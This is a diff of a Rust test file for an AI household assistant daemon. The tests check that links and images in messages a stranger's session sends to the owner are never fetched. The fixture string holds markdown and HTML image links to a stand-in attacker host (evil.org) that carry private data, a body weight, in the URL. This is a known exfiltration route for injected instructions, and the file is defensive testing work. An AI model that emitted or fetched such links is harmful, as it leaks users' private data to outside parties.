@@ -1,13 +1,14 @@
 //! Links in what the owner is told by a session that is not the owner's alone do nothing, on every channel.
 
 use serde_json::{Value, json};
+use testkit::model::ScriptedModel;
 
 use crate::approvals::{from_stranger, says};
 use crate::support::{Daemon, Household, Receiver, eventually, http, model};
 
 const TEXT: &str = "see [it](https://evil.org/p?w=82.4kg) or ![x](https://82kg.evil.org/i.png) <img src=//evil.org/a>";
 
-async fn household(receiver: &Receiver) -> Household {
+async fn household(receiver: &Receiver) -> (ScriptedModel, Household) {
     let send = json!({"call": {"tool": "notify",
         "arguments": {"intent": "send", "channel": "{{match.1}}", "message": format!("{{{{match.1}}}} {TEXT}")}}});
     let look = json!({"call": {"tool": "state_get", "arguments": {"key": "found"}}});
@@ -17,14 +18,15 @@ async fn household(receiver: &Receiver) -> Household {
         {"when": "give me the link", "steps": [{"say": TEXT}]},
     ]))
     .await;
-    Household::with_model(&model)
+    let household = Household::with_model(&model)
         .with_webhook(receiver, "")
         .replace(
             "messenger/butler.toml",
             "[modules.webhook.endpoints.door]",
             "[modules.file]\n\n[modules.webhook.endpoints.door]",
         )
-        .env("BUTLERD_OWNER__IDENTITIES__WEBHOOK", "door")
+        .env("BUTLERD_OWNER__IDENTITIES__WEBHOOK", "door");
+    (model, household)
 }
 
 /// What came over a channel, once it is there.
@@ -59,7 +61,7 @@ fn does_nothing(text: &str) {
 #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
 async fn what_a_strangers_session_tells_the_owner_fetches_nothing() {
     let receiver = Receiver::start().await;
-    let household = household(&receiver).await;
+    let (_model, household) = household(&receiver).await;
     let daemon = household.start().await;
     for channel in ["webhook", "file", "chat"] {
         from_stranger(&daemon, channel, &format!("tell the owner over {channel}")).await;
@@ -79,7 +81,7 @@ async fn what_a_strangers_session_tells_the_owner_fetches_nothing() {
 #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
 async fn what_the_owners_own_session_tells_keeps_its_links() {
     let receiver = Receiver::start().await;
-    let household = household(&receiver).await;
+    let (_model, household) = household(&receiver).await;
     let daemon = household.start().await;
     for channel in ["webhook", "file", "chat"] {
         // Each says its own text: the same of one request would be the same delivery.
@@ -101,7 +103,7 @@ async fn chat(daemon: &Daemon, text: &str) -> Vec<Value> {
 #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
 async fn in_the_chat_a_session_that_was_shown_a_strangers_words_links_nothing() {
     let receiver = Receiver::start().await;
-    let household = household(&receiver).await;
+    let (_model, household) = household(&receiver).await;
     let daemon = household.start().await;
     let db = household.owner().await;
     let value = json!({"url": "https://evil.org/p?w=82"});
